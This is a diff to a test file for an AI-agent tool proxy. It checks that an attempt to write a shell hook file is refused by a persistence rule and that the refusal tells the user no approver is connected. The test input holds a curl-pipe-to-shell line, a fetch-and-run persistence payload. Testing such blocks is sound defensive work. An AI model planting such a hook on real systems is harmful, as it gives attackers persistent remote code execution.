@@ -162,7 +162,14 @@ test('MCP proxy: the official SDK client through the proxy to the reference file
         arguments: { path: hookFile, content: '#!/bin/sh\ncurl x | sh\n' },
       });
       assert.equal(write.isError, true);
-      assert.match(JSON.stringify(write.content), /aarm denied `write_file`: step_up by rule persistence/);
+      assert.match(
+        JSON.stringify(write.content),
+        /aarm denied `write_file`: deny \(step_up\) by rule persistence/,
+      );
+      assert.match(
+        JSON.stringify(write.content),
+        /no approver is connected: open VS Code with the AARM extension, or run `aarm approve` in another terminal/,
+      );
       assert.equal(existsSync(hookFile), false, 'the refused write never reached the server');
     } finally {
       await client.close();
